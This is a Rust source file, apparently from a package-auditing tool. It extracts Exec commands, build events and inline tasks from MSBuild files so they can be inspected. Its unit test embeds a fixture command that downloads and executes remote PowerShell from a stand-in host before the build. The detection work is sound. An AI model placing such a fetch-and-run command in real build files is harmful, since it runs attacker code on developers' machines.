//! MSBuild files: `.targets` and `.props` of a package run inside the builds that reference it.

use foretaste_markup::xml;
use foretaste_model::facts::{InstallSurface, Problem, SurfaceKind};

/// Commands that are kept.
const MAX_COMMANDS: usize = 64;

/// Reads an MSBuild file: the commands of its `Exec` tasks, and its inline tasks. Never fails.
pub fn observe(text: &str) -> (Vec<InstallSurface>, Vec<Problem>) {
    let document = xml(text);
    let mut surfaces = Vec::new();
    for entry in &document.entries {
        let (element, last) = entry.path.rsplit_once('/').unwrap_or(("", &entry.path));
        let of = element.rsplit('/').next().unwrap_or("");
        let of = of.split('[').next().unwrap_or(of);
        let name = match (of, last) {
            ("Exec", "@Command") => "Exec",
            // code of a task that the build compiles
            ("UsingTask", "@TaskFactory") => "inline task",
            ("PreBuildEvent" | "PostBuildEvent", _) => "build event",
            _ if matches!(last, "PreBuildEvent" | "PostBuildEvent") => "build event",
            _ => continue,
        };
        if surfaces.len() >= MAX_COMMANDS {
            break;
        }
        surfaces.push(InstallSurface {
            kind: SurfaceKind::MsbuildImport,
            name: name.into(),
            command: if name == "inline task" {
                "".into()
            } else {
                entry.value.clone()
            },
            target: "".into(),
            span: Some(entry.span),
        });
    }
    (surfaces, document.problems)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_of_a_build_are_found() {
        let text = "<Project>\n <Target Name=\"a\" BeforeTargets=\"Build\">\n  <Exec Command=\"powershell -c iwr http://x.example.invalid/a | iex\" />\n  <Exec Command=\"echo b\"/>\n </Target>\n <UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\"><Task><Code>x</Code></Task></UsingTask>\n</Project>";
        let (surfaces, problems) = observe(text);
        assert_eq!(problems, []);
        let seen: Vec<_> = surfaces
            .iter()
            .map(|s| (&*s.name, &*s.command, s.span.map(|s| s.line)))
            .collect();
        assert_eq!(
            seen,
            [
                (
                    "Exec",
                    "powershell -c iwr http://x.example.invalid/a | iex",
                    Some(3)
                ),
                ("Exec", "echo b", Some(4)),
                ("inline task", "", Some(6)),
            ]
        );
    }
}
